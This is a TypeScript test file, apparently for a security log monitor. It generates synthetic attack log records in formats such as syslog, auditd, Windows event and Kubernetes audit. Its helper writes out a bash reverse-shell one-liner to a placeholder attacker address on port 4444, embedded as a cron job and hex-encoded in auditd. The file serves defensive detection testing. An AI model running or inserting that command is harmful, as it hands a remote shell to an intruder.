/** Test attacks for what operating systems log. */

import { type Attack, attackerOf, hostOf, iso, json, numberOf, seconds } from './attack.ts'

const rootLogin = 'Root signs in over SSH with a password'
const accepted = (unique: string): string => `Accepted password for root from ${attackerOf(unique)} port 43210 ssh2`
const process = (unique: string): number => numberOf(unique.slice(0, 4))
const shellHome = (unique: string): string => `bash -i >& /dev/tcp/${attackerOf(unique)}/4444 0>&1`

export const systemAttacks: readonly Attack[] = [
  {
    format: 'syslog',
    title: rootLogin,
    record: (ms, unique) => `<86>1 ${iso(ms)} ${hostOf(unique)} sshd ${process(unique)} - - ${accepted(unique)}`
  },
  {
    format: 'syslog',
    title: 'A reverse shell as a cron job',
    record: (ms, unique) =>
      `<78>1 ${iso(ms)} ${hostOf(unique)} CRON ${process(unique)} - - (root) CMD (${shellHome(unique)})`
  },
  {
    format: 'journald',
    title: rootLogin,
    record: (ms, unique) =>
      json({
        __CURSOR: `s=heartbeat;i=${unique}`,
        __REALTIME_TIMESTAMP: String(ms * 1000),
        _HOSTNAME: hostOf(unique),
        _BOOT_ID: `fa3c2e3080dc4cd5be5cb5a4${unique}`,
        PRIORITY: '6',
        SYSLOG_FACILITY: '10',
        SYSLOG_IDENTIFIER: 'sshd',
        _PID: String(process(unique)),
        _COMM: 'sshd',
        _SYSTEMD_UNIT: 'ssh.service',
        _TRANSPORT: 'syslog',
        MESSAGE: accepted(unique)
      })
  },
  {
    format: 'auditd',
    title: 'A reverse shell',
    record: (ms, unique) => {
      const id = `audit(${seconds(ms)}.${String(ms % 1000).padStart(3, '0')}:${numberOf(unique.slice(0, 6))})`
      const hex = [...shellHome(unique)].map(c => c.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()).join('')
      return `node=${hostOf(unique)} type=EXECVE msg=${id}: argc=3 a0="bash" a1="-c" a2=${hex}`
    }
  },
  {
    format: 'clamav',
    title: 'The scanner finds malware',
    record: (ms, unique) => {
      // Wed Jan  1 00:00:01 2025
      const [, day, date, month, year] = /^(\w+), (\d+) (\w+) (\d+)/.exec(new Date(ms).toUTCString())!
      return `${day} ${month} ${String(Number(date)).padStart(2)} ${iso(ms).slice(11, 19)} ${year} -> /srv/${unique}/mail.doc: Eicar-Signature FOUND`
    }
  },
  {
    format: 'windows-json',
    title: 'The security log is cleared',
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        winlog: {
          channel: 'Security',
          provider_name: 'Microsoft-Windows-Eventlog',
          event_id: '1102',
          record_id: numberOf(unique),
          computer_name: hostOf(unique),
          user_data: { SubjectUserName: 'heartbeat', SubjectDomainName: 'EXAMPLE' }
        },
        event: { code: '1102', provider: 'Microsoft-Windows-Eventlog', action: 'log-cleared' },
        host: { name: hostOf(unique) },
        message: 'The audit log was cleared.'
      })
  },
  {
    format: 'windows-xml',
    title: 'The security log is cleared',
    record: (ms, unique) =>
      `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime='${iso(ms)}'/><EventRecordID>${numberOf(unique)}</EventRecordID><Execution ProcessID='624' ThreadID='700'/><Channel>Security</Channel><Computer>${hostOf(unique)}</Computer><Security/></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserName>heartbeat</SubjectUserName></LogFileCleared></UserData></Event>`
  },
  {
    format: 'kubernetes-audit',
    title: 'A shell in a pod',
    record: (ms, unique) =>
      json({
        kind: 'Event',
        apiVersion: 'audit.k8s.io/v1',
        level: 'Metadata',
        auditID: `00000000-0000-4000-8000-0000${unique}`,
        stage: 'ResponseComplete',
        requestURI: '/api/v1/namespaces/default/pods/web/exec?command=sh',
        verb: 'create',
        user: { username: `heartbeat-${unique}`, groups: ['system:authenticated'] },
        sourceIPs: [attackerOf(unique)],
        userAgent: 'kubectl/v1.31.0',
        objectRef: { resource: 'pods', namespace: 'default', name: 'web', apiVersion: 'v1', subresource: 'exec' },
        responseStatus: { metadata: {}, code: 101 },
        requestReceivedTimestamp: iso(ms).replace('Z', '000Z'),
        stageTimestamp: iso(ms).replace('Z', '000Z')
      })
  }
]
